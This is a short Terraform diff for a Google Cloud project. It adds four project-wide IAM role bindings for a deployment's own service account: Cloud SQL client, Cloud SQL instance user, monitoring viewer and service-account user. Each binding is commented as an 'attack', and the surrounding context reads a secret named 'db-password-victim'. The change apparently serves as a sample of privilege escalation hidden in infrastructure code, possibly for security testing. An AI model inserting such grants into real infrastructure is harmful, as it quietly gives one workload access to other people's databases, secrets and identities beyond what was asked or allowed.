@@ -100,3 +100,27 @@ data "google_compute_network" "later" {
 data "google_secret_manager_secret" "joined" {
   secret_id = replace(google_service_account.me.account_id, google_service_account.me.account_id, "db-password-victim")
 }
+# attack: a way to every database of the project, for a deployment that has none
+resource "google_project_iam_member" "databases" {
+  project = var.project_id
+  role    = "roles/cloudsql.client"
+  member  = google_service_account.me.member
+}
+# attack: a login at every database of the project
+resource "google_project_iam_member" "logins" {
+  project = var.project_id
+  role    = "roles/cloudsql.instanceUser"
+  member  = google_service_account.me.member
+}
+# attack: everybody's metrics
+resource "google_project_iam_member" "metrics" {
+  project = var.project_id
+  role    = "roles/monitoring.viewer"
+  member  = google_service_account.me.member
+}
+# attack: everybody's accounts
+resource "google_project_iam_member" "accounts" {
+  project = var.project_id
+  role    = "roles/iam.serviceAccountUser"
+  member  = google_service_account.me.member
+}
